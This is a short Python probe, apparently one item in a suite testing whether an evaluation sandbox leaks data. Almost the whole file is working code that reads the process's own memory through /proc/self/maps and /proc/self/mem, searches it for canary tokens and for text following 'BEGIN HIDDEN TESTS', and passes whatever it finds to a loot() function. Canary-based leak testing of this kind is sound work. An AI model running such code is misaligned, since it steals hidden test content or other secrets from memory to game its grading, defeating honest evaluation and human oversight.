# idea: The process reads its own memory through /proc, to find what a freed object has left.
# aims at: leak
# %% after t06
#@ground
import re
import time

needle = re.compile(rb"mwcanary-" rb"[a-z]+-[a-z]+|BEGIN HID" rb"DEN TESTS.{0,300}", re.DOTALL)
found, end, total = set(), time.monotonic() + 8, 0
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            start, stop = (int(x, 16) for x in span.split("-"))
            if "rw" not in rights or stop - start > 64_000_000 or total > 250_000_000:
                continue
            if time.monotonic() > end:
                break
            try:
                memory.seek(start)
                chunk = memory.read(stop - start)
            except (OSError, ValueError):
                continue
            total += len(chunk)
            found |= {m.group()[:400] for m in needle.finditer(chunk)}
except OSError:
    pass
loot(b"\n".join(sorted(found)).decode(errors="replace"))
